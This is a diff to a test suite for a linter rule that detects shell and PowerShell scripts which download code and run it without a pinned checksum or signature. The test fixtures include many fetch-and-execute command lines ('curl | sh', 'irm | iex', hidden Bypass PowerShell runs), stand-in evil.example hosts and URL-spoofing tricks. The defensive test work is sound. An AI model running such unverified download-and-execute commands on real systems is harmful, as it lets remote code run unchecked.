@@ -26,9 +26,12 @@ describe("supply-chain/fetch-execute", () => {
       [".github/workflows/ci.yml", 11, 11, "substitution"],
       ["Dockerfile", 3, 5, "pipe"],
       ["Makefile", 3, 3, "pipe"],
+      ["scripts/fetch-tool.sh", 4, 1, "download-then-run"],
+      ["scripts/install.ps1", 2, 1, "variable"],
       ["scripts/setup.sh", 3, 1, "download-then-run"],
     ]);
-    assert.equal(findings[4]!.fix, 'curl -fsSLo install-poetry.py https://install.python-poetry.org && echo "<sha256>  install-poetry.py" | sha256sum -c - && python3 install-poetry.py');
+    assert.equal(findings[5]!.fix, "Invoke-WebRequest https://get.example.com/tool/install.ps1 -OutFile install.ps1; if ((Get-FileHash install.ps1 -Algorithm SHA256).Hash -ne '<sha256>') { throw 'checksum mismatch' }; & ./install.ps1");
+    assert.equal(findings[6]!.fix, 'curl -fsSLo install-poetry.py https://install.python-poetry.org && echo "<sha256>  install-poetry.py" | sha256sum -c - && python3 install-poetry.py');
     assert.equal(findings[2]!.fix, "ADD --checksum=sha256:<sha256> https://deb.nodesource.com/setup_20.x /tmp/setup_20.x\nRUN bash /tmp/setup_20.x".replace("setup_20.x\nRUN bash /tmp/setup_20.x", "install.sh\nRUN bash /tmp/install.sh"));
   });
 
@@ -183,3 +186,205 @@ describe("supply-chain/fetch-execute in nested shells and published actions", ()
   });
 });
 
+
+describe("supply-chain/fetch-execute: a check clears only the download it checks, against a pinned value", () => {
+  const run = ruleRunner(rule);
+  const SHA = "24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d";
+  const DL = "curl -fsSLo /tmp/i.sh https://get.example.com/i.sh\n";
+  const ran = (between: string): string[] => how(`${DL}${between}\nsh /tmp/i.sh`);
+
+  it("does not take a checking tool run for something else for a check", () => {
+    for (const between of ["sha256sum /tmp/i.sh", "shasum -a 256 /tmp/i.sh", "openssl version", "openssl dgst -sha256 /tmp/i.sh", "gpg --import keys/release.asc", "cosign version", "minisign -Sm /tmp/i.sh", "gh attestation download /tmp/i.sh --owner o"]) {
+      assert.deepEqual(ran(between), ["download-then-run:sh"], between);
+    }
+  });
+
+  it("does not clear a download that the check does not name", () => {
+    const two = "curl -fsSLo a.sh https://get.example.com/a.sh\ncurl -fsSLo b.sh https://get.example.com/b.sh\n";
+    assert.deepEqual(how(`${two}echo "${SHA}  a.sh" | sha256sum -c -\nsh a.sh\nsh b.sh`), ["download-then-run:sh"]);
+    assert.equal(findFetchExecute(`${two}echo "${SHA}  a.sh" | sha256sum -c -\nsh a.sh\nsh b.sh`)[0]?.file, "b.sh");
+    assert.deepEqual(how(`${two}sha256sum -c a.sh.sha256\nsh b.sh`), ["download-then-run:sh"]);
+    assert.deepEqual(how(`${two}gpg --verify a.sh.asc a.sh\nsh b.sh`), ["download-then-run:sh"]);
+    assert.deepEqual(how(`${two}[ "$(sha256sum a.sh | cut -d' ' -f1)" = "${SHA}" ]\nsh b.sh`), ["download-then-run:sh"]);
+  });
+
+  it("does not count a checksum the script computed from the download, or downloaded beside it unchecked", () => {
+    assert.deepEqual(how(`wget -q https://get.example.com/i.sh && sha256sum i.sh > i.sh.sha256 && sha256sum -c i.sh.sha256 && sh i.sh`), ["download-then-run:sh"]);
+    assert.deepEqual(how(`F=i.sh\ncurl -fsSLo "$F" https://get.example.com/i.sh\nsha256sum "$F" > "$F.sha256"\nsha256sum -c "$F.sha256"\nsh "$F"`), ["download-then-run:sh"]);
+    assert.deepEqual(ran("sha256sum /tmp/i.sh | sha256sum -c -"), ["download-then-run:sh"]);
+    assert.deepEqual(ran("sha256sum -c <(sha256sum /tmp/i.sh)"), ["download-then-run:sh"]);
+    assert.deepEqual(ran('echo "$(sha256sum /tmp/i.sh)" | sha256sum -c'), ["download-then-run:sh"]);
+    assert.deepEqual(ran("curl -fsSLO https://get.example.com/i.sh.sha256\nsha256sum -c i.sh.sha256"), ["download-then-run:sh"]);
+    assert.deepEqual(ran("curl -fsSL https://get.example.com/i.sh.sha256 | sha256sum -c -"), ["download-then-run:sh"]);
+    assert.deepEqual(ran('SUM=$(curl -fsSL https://get.example.com/i.sh.sha256)\necho "$SUM  i.sh" | sha256sum -c -'), ["download-then-run:sh"]);
+    const padding = Array.from({ length: 1_000 }, (_, i) => `V${i}=$(curl -fsSL https://get.example.com/${i})`).join("\n");
+    assert.deepEqual(ran(`${padding}\nSUM=$(curl -fsSL https://get.example.com/i.sh.sha256)\necho "$SUM  i.sh" | sha256sum -c -`), ["download-then-run:sh"]);
+    assert.deepEqual(ran('A=$(sha256sum /tmp/i.sh)\n[ "$A" = "$(sha256sum /tmp/i.sh)" ] || exit 1'), ["download-then-run:sh"]);
+    assert.deepEqual(ran('[ "$(sha256sum /tmp/i.sh)" != "" ]'), ["download-then-run:sh"]);
+  });
+
+  it("still clears a download checked against a written or kept hash, or by its signature", () => {
+    for (const between of [
+      `echo "${SHA}  /tmp/i.sh" | sha256sum -c -`,
+      `echo "${SHA} *i.sh" | shasum -a 256 --check`,
+      `printf '%s  %s\\n' "$INSTALLER_SHA256" i.sh | sha256sum -c --status`,
+      `sha256sum -c <<< "${SHA}  i.sh"`,
+      `sha256sum -c <<EOF\n${SHA}  i.sh\nEOF`,
+      'sha256sum -c <(echo "$INSTALLER_SHA256  i.sh")',
+      `echo "${SHA}  i.sh" > i.sh.sha256\nsha256sum -c i.sh.sha256`,
+      "sha256sum -c checksums/i.sh.sha256",
+      "sha256sum --check --ignore-missing SHA256SUMS",
+      'grep " i.sh$" SHA256SUMS | sha256sum -c -',
+      `[ "$(sha256sum /tmp/i.sh | cut -d' ' -f1)" = "${SHA}" ] || exit 1`,
+      "ACTUAL=$(sha256sum /tmp/i.sh | awk '{print $1}')\nif [ \"$ACTUAL\" != \"$EXPECTED\" ]; then exit 1; fi",
+      `sha256sum /tmp/i.sh | grep -q ${SHA}`,
+      "gpg --batch --verify /tmp/i.sh.asc /tmp/i.sh",
+      "gpgv --keyring ./release.gpg i.sh.sig i.sh",
+      "cosign verify-blob --key cosign.pub --signature i.sh.sig /tmp/i.sh",
+      "cosign verify-blob /tmp/i.sh --bundle i.sh.sigstore.json --certificate-identity https://github.com/o/r/.github/workflows/r.yml@refs/tags/v1 --certificate-oidc-issuer https://token.actions.githubusercontent.com",
+      "minisign -Vm /tmp/i.sh -P RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3",
+      "signify -V -p release.pub -x i.sh.sig -m /tmp/i.sh",
+      "openssl dgst -sha256 -verify release.pem -signature i.sh.sig /tmp/i.sh",
+      "slsa-verifier verify-artifact /tmp/i.sh --provenance-path i.intoto.jsonl --source-uri github.com/o/r",
+      "gh attestation verify /tmp/i.sh --owner o",
+    ]) {
+      assert.deepEqual(ran(between), [], between);
+    }
+  });
+
+  it("follows a signed checksum list: its signature checked, then the files it lists", () => {
+    const sums = "curl -fsSLO https://get.example.com/SHA256SUMS\ncurl -fsSLO https://get.example.com/SHA256SUMS.asc\n";
+    assert.deepEqual(ran(`${sums}gpg --verify SHA256SUMS.asc SHA256SUMS\nsha256sum -c --ignore-missing SHA256SUMS`), []);
+    assert.deepEqual(ran(`${sums}sha256sum -c --ignore-missing SHA256SUMS`), ["download-then-run:sh"]);
+  });
+
+  it("reports a Dockerfile RUN that prints the hash of an earlier RUN's download and checks nothing", async () => {
+    const df = "FROM alpine:3.20\nRUN wget -q https://get.example.com/install.sh -O /tmp/install.sh\nRUN sha256sum /tmp/install.sh\nRUN sh /tmp/install.sh\n";
+    assert.deepEqual((await run({ Dockerfile: df })).findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[4, "download-then-run"]]);
+    const checked = df.replace("RUN sha256sum /tmp/install.sh", `RUN echo "${SHA}  /tmp/install.sh" | sha256sum -c -`);
+    assert.deepEqual((await run({ Dockerfile: checked })).findings, []);
+  });
+
+  it("checks a PowerShell download by the hash compared on its line or through a variable, not a hash only printed", () => {
+    const psHow = (s: string): string[] => findFetchExecute(powerShellAsShell(s)).map((f) => `${f.how}:${f.file}`);
+    const get = "Invoke-WebRequest -Uri $Url -OutFile $Path\n";
+    const start = "Start-Process -FilePath $Path -Wait\n";
+    assert.deepEqual(psHow(`${get}Get-FileHash $Path\n${start}`), ["download-then-run:$Path"]);
+    assert.deepEqual(psHow(`${get}$h = Get-FileHash -Path $Path -Algorithm SHA256\nif ($h.Hash -ne $Expected) { throw 'bad' }\n${start}`), []);
+    assert.deepEqual(psHow(`${get}if ((Get-AuthenticodeSignature $Path).Status -ne 'Valid') { throw 'unsigned' }\n${start}`), []);
+    assert.deepEqual(psHow(`Invoke-WebRequest -Uri $Url -OutFile setup.exe\ncertutil -hashfile setup.exe SHA256 | findstr /i ${SHA}\n& ./setup.exe\n`), []);
+  });
+
+  it("stays linear on hostile checks", () => {
+    let dl = "";
+    for (let i = 0; i < 3_000; i++) dl += `curl -o f${i}.sh https://x/f${i}.sh\n`;
+    findFetchExecute(dl + "sha256sum -c SUMS\n".repeat(3_000) + "sh f1.sh\n");
+    findFetchExecute(dl + "grep f1.sh SUMS | sha256sum -c\n".repeat(3_000));
+    findFetchExecute("curl -o a https://x/a; " + "Get-FileHash a; ".repeat(10_000));
+    findFetchExecute("a | ".repeat(5_000) + "sha256sum -c > x | ".repeat(5_000));
+    findFetchExecute(powerShellAsShell("$h = Get-FileHash a\n".repeat(3_000) + "if ($h -ne 1) {}\n".repeat(3_000)));
+    findPowerShellFetchExecute(Array.from({ length: 10_000 }, (_, i) => `$v${i} = irm https://x/a`).join("\n") + `\n${"iex " + "$q ".repeat(900)}\n`.repeat(100));
+  });
+});
+
+describe("supply-chain/fetch-execute: a URL is pinned only when it is content-addressed by a commit", () => {
+  const C = "0123456789abcdef0123456789abcdef01234567";
+  const piped = (url: string): string[] => how(`curl -fsSL ${url} | sh`);
+
+  it("accepts raw files at a commit on the forges that address them by it", () => {
+    for (const url of [
+      `https://raw.githubusercontent.com/o/r/${C}/install.sh`,
+      `https://github.com/o/r/raw/${C}/scripts/install.sh`,
+      `https://gist.githubusercontent.com/u/1a2b3c/raw/${C}/install.sh`,
+      `https://gitlab.com/group/sub/project/-/raw/${C}/install.sh`,
+      `https://bitbucket.org/o/r/raw/${C}/install.sh`,
+      `https://codeberg.org/o/r/raw/commit/${C}/install.sh`,
+      `https://cdn.jsdelivr.net/gh/o/r@${C}/install.sh`,
+    ]) {
+      assert.deepEqual(piped(url), [], url);
+    }
+  });
+
+  it("rejects a hash on any other host, dot segments, encoded dots, user information, plain HTTP and a second URL", () => {
+    for (const url of [
+      `https://evil.example/${C}/install.sh`,
+      `https://get.example.com/install.sh?ref=${C}/`,
+      `https://raw.githubusercontent.com/o/r/${C}/../refs/heads/main/install.sh`,
+      `https://raw.githubusercontent.com/o/r/${C}/./x/../../main/install.sh`,
+      `https://raw.githubusercontent.com/o/r/${C}/%2e%2e/main/install.sh`,
+      `https://raw.githubusercontent.com/o/r/${C}/%2E%2E/main/install.sh`,
+      `https://raw.githubusercontent.com@evil.example/o/r/${C}/install.sh`,
+      `http://raw.githubusercontent.com/o/r/${C}/install.sh`,
+      `https://raw.githubusercontent.com/o/r/${C}/install.sh https://evil.example/more.sh`,
+      `https://raw.githubusercontent.com/o/r/main/${C}/install.sh`,
+      `https://codeberg.org/o/r/raw/${C}/install.sh`,
+    ]) {
+      assert.deepEqual(piped(url), ["pipe:sh"], url);
+    }
+  });
+
+  it("judges the URL of a substitution and of a saved download the same way", () => {
+    assert.deepEqual(how(`bash -c "$(curl -fsSL https://evil.example/${C}/i.sh)"`), ["substitution:bash"]);
+    assert.deepEqual(how(`curl -fsSLo i.sh https://raw.githubusercontent.com/o/r/${C}/../main/i.sh\nsh i.sh`), ["download-then-run:sh"]);
+    assert.deepEqual(how(`curl -fsSLo i.sh https://raw.githubusercontent.com/o/r/${C}/i.sh\nsh i.sh`), []);
+    assert.equal(findPowerShellFetchExecute(`irm https://evil.example/${C}/i.ps1 | iex`).length, 1);
+  });
+});
+
+describe("supply-chain/fetch-execute: PowerShell's two-line forms", () => {
+  const run = ruleRunner(rule);
+
+  it("follows downloaded content kept in a variable to the line that invokes it", () => {
+    const lines = (s: string): string[] => findPowerShellFetchExecute(s).map((f) => `${f.how}:${f.interpreter}:${f.url}`);
+    assert.deepEqual(lines("$s = Invoke-RestMethod https://get.example.com/i.ps1\nInvoke-Expression $s\n"), ["variable:Invoke-Expression:https://get.example.com/i.ps1"]);
+    assert.deepEqual(lines("$url = 'https://get.example.com/i.ps1'\n$script = irm $url\niex $script\n"), ["variable:iex:https://get.example.com/i.ps1"]);
+    assert.deepEqual(lines("$s = (New-Object Net.WebClient).DownloadString('https://get.example.com/a.ps1')\nInvoke-Expression $s\n"), ["variable:Invoke-Expression:https://get.example.com/a.ps1"]);
+    assert.deepEqual(lines("$r = Invoke-WebRequest https://get.example.com/c.ps1 -UseBasicParsing\n$code = $r.Content\n& ([scriptblock]::Create($code))\n"), ["variable:[scriptblock]::Create:https://get.example.com/c.ps1"]);
+    // However many variables come before, the one invoked is followed.
+    const padded = Array.from({ length: 1_000 }, (_, i) => `$v${i} = irm https://get.example.com/${i}.ps1`).join("\n") + "\niex $v999\n";
+    assert.deepEqual(lines(padded), ["variable:iex:https://get.example.com/999.ps1"]);
+    // Reassigned, saved to a file, or only named in a string: nothing runs the download.
+    assert.deepEqual(lines("$s = irm https://get.example.com/i.ps1\n$s = 'Write-Host hi'\niex $s\n"), []);
+    assert.deepEqual(lines("$r = iwr https://get.example.com/i.ps1 -OutFile i.ps1\niex $r\n"), []);
+    assert.deepEqual(lines("$s = irm https://get.example.com/i.ps1\nWrite-Host 'then run: iex $s'\n"), []);
+  });
+
+  it("reports the variable form in a .ps1 script and in a windows-latest workflow step", async () => {
+    const wf = "on: push\njobs:\n  w:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          $s = (New-Object Net.WebClient).DownloadString('https://get.example.com/a.ps1')\n          Invoke-Expression $s\n";
+    const { findings } = await run({ "setup.ps1": "$s = Invoke-RestMethod https://get.example.com/i.ps1\nInvoke-Expression $s\n", ".github/workflows/w.yml": wf });
+    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine, f.locations[0]?.endLine, f.evidence["how"]]), [
+      [".github/workflows/w.yml", 7, 8, "variable"],
+      ["setup.ps1", 1, 2, "variable"],
+    ]);
+    assert.match(findings[1]!.message, /keeps a download of https:\/\/get\.example\.com\/i\.ps1 from Invoke-RestMethod in a variable and runs it with Invoke-Expression/);
+  });
+
+  it("reads the script pwsh or powershell runs from -File, not an option's value", async () => {
+    const get = "Invoke-WebRequest https://get.example.com/e.ps1 -OutFile e.ps1\n";
+    for (const runIt of ["powershell -ExecutionPolicy Bypass -File .\\e.ps1", "pwsh -NoProfile -ExecutionPolicy Bypass -File e.ps1", "pwsh -ep Bypass -f ./e.ps1", "powershell -NoLogo -WindowStyle Hidden .\\e.ps1", "& .\\e.ps1"]) {
+      const { findings } = await run({ "setup.ps1": `${get}${runIt}\n` });
+      assert.deepEqual(findings.map((f) => [f.evidence["how"], f.locations[0]?.endLine]), [["download-then-run", 2]], runIt);
+    }
+    assert.deepEqual((await run({ "setup.ps1": `${get}pwsh -Command "Write-Host e.ps1"\n` })).findings, []);
+  });
+});
+
+describe("supply-chain/fetch-execute: shell forms", () => {
+  it("reads a here-string fed to a shell, a wrapper named by its path, and a shell's own options", () => {
+    assert.deepEqual(how('bash <<< "$(curl -fsSL https://get.example.com/i.sh)"'), ["substitution:bash"]);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | /usr/bin/env bash"), ["pipe:bash"]);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | bash -e -u"), ["pipe:bash"]);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | bash -o pipefail"), ["pipe:bash"]);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | bash -euo pipefail -x"), ["pipe:bash"]);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | sh -s -- --yes"), ["pipe:sh"]);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/i.sh | busybox sh"), ["pipe:busybox"]);
+    assert.deepEqual(how("curl -fsSLo i.sh https://get.example.com/i.sh\nbash -o pipefail i.sh"), ["download-then-run:bash"]);
+  });
+
+  it("leaves a shell that runs something else alone", () => {
+    assert.deepEqual(how("curl -fsSL https://get.example.com/a.json | bash -c 'jq .'"), []);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/a.json | bash -o pipefail ./parse.sh"), []);
+    assert.deepEqual(how("curl -fsSL https://get.example.com/a.json | node -e 'process.stdin.pipe(process.stdout)'"), []);
+    assert.deepEqual(how('cat <<< "$(curl -fsSL https://get.example.com/a.json)"'), []);
+  });
+});
